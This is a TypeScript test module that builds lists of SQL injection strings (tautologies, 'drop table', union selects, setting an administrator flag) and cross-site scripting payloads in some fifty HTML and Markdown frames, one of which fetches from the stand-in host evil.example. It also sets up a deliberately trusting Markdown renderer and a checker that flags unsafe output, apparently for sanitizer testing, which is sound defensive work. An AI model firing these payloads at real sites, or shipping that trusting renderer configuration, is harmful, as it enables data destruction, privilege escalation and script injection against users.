import MarkdownIt from 'markdown-it'

/** What people have tried on databases: closers × what comes after × how the rest is hidden. 240 in all. */
const CLOSERS = ["'", '"', "')", '")', "';", "'))", '`', "\\'", '$$', '%27', '𝟭’', "'||'"]
const AFTER = [
  ' or 1=1',
  '; drop table task',
  ' union select null, version(), null',
  '; update person set is_administrator = true',
  '||pg_sleep(0)||',
  ' and 1=(select count(*) from person)',
  '; set role none',
  "; select set_config('app.scope', 'system', false)",
  ' order by 99',
  '::int',
]
const HIDERS = ['--', '/*']
export const SQL_PAYLOADS = CLOSERS.flatMap((closer) =>
  AFTER.flatMap((after) => HIDERS.map((hider) => `${closer}${after} ${hider}`)),
)

/** Every way in that a page has, filled with what would show itself: a dialog, a flag, a request. 200 and more. */
const SHOWS = ['alert(1)', 'window.klikHurt=1', "fetch('//evil.example')", 'document.title=1']
const FRAMES = [
  (js: string) => `<script>${js}</script>`,
  (js: string) => `"><script>${js}</script>`,
  (js: string) => `</title><script>${js}</script>`,
  (js: string) => `<img src=x onerror="${js}">`,
  (js: string) => `'><img src=x onerror=${js}>`,
  (js: string) => `<svg onload=${js}>`,
  (js: string) => `<svg><script>${js}</script></svg>`,
  (js: string) => `<iframe srcdoc="<script>parent.${js}</script>">`,
  (js: string) => `<iframe src="javascript:${js}">`,
  (js: string) => `<a href="javascript:${js}">her</a>`,
  (js: string) => `[her](javascript:${js})`,
  (js: string) => `[her](  jAvAsCrIpT:${js})`,
  (js: string) => `![x](x" onerror="${js})`,
  (js: string) => `[her](data:text/html,<script>${js}</script>)`,
  (js: string) => `<details open ontoggle=${js}>`,
  (js: string) => `<body onpageshow=${js}>`,
  (js: string) => `<input autofocus onfocus=${js}>`,
  (js: string) => `<video><source onerror="${js}"></video>`,
  (js: string) => `<math><mtext><script>${js}</script></mtext></math>`,
  (js: string) => `<object data="javascript:${js}"></object>`,
  (js: string) => `<form action="javascript:${js}"><button>tryk</button></form>`,
  (js: string) => `<base href="javascript:${js}//">`,
  (js: string) => `<meta http-equiv="refresh" content="0;javascript:${js}">`,
  (js: string) => `<style>@import 'javascript:${js}';</style>`,
  (js: string) => `<div style="background:url(javascript:${js})">`,
  (js: string) => `{{constructor.constructor('${js}')()}}`,
  (js: string) => `\${${js}}`,
  (js: string) => `<noscript><p title="</noscript><img src=x onerror=${js}>">`,
  (js: string) => `<xmp><img src=x onerror=${js}></xmp>`,
  (js: string) => `<table background="javascript:${js}"><tr><td>x`,
  (js: string) => `&lt;script&gt;${js}&lt;/script&gt;`,
  (js: string) => `%3Cscript%3E${js}%3C/script%3E`,
  (js: string) => `<scr\u0000ipt>${js}</scr\u0000ipt>`,
  (js: string) => `\u202e<script>${js}</script>`,
  (js: string) => `<button formaction="javascript:${js}">x`,
  (js: string) => `<marquee onstart=${js}>x</marquee>`,
  (js: string) => `<a href="https://evil.example" onmouseover=${js}>x</a>`,
  (js: string) => `<at>alle</at><script>${js}</script>`,
  (js: string) => `[link](https://evil.example/?${encodeURIComponent(js)})`,
  (js: string) => `https://evil.example/?${encodeURIComponent(js)}`,
  (js: string) => `**fed** <u onclick=${js}>x</u>`,
  (js: string) => `<template><script>${js}</script></template>`,
  (js: string) => `<link rel=import href="javascript:${js}">`,
  (js: string) => `<embed src="javascript:${js}">`,
  (js: string) => `<isindex type=image src=1 onerror=${js}>`,
  (js: string) => `<select autofocus onfocus=${js}><option>x`,
  (js: string) => `<keygen autofocus onfocus=${js}>`,
  (js: string) => `<textarea autofocus onfocus=${js}>`,
  (js: string) => `<audio src=x onerror=${js}>`,
  (js: string) => `<img """><script>${js}</script>">`,
]
export const XSS_PAYLOADS = FRAMES.flatMap((frame) => SHOWS.map(frame))

/** The most trusting reader of Markdown there is: HTML as HTML, and links to anywhere. */
export const trusting = new MarkdownIt({ html: true, linkify: false })
trusting.validateLink = () => true

const WRITTEN =
  /<(?!\/?(?:p|br|hr|strong|em|s|ul|ol|li|blockquote|code|pre|table|thead|tbody|tr|th|td|h[1-6])(?:\s[^>]*)?>)[^>]*>?/gi
const LEADS_OUT = /^<a href="(https?:\/\/|mailto:|tel:)[^"]*">$/i

/** Every tag it would draw that Markdown alone does not make, and every link to where none may lead. */
export const harmOf = (markdown: string): string[] =>
  [...trusting.render(markdown).matchAll(WRITTEN)]
    .map(([tag]) => tag)
    .filter((tag) => tag !== '</a>' && !LEADS_OUT.test(tag))
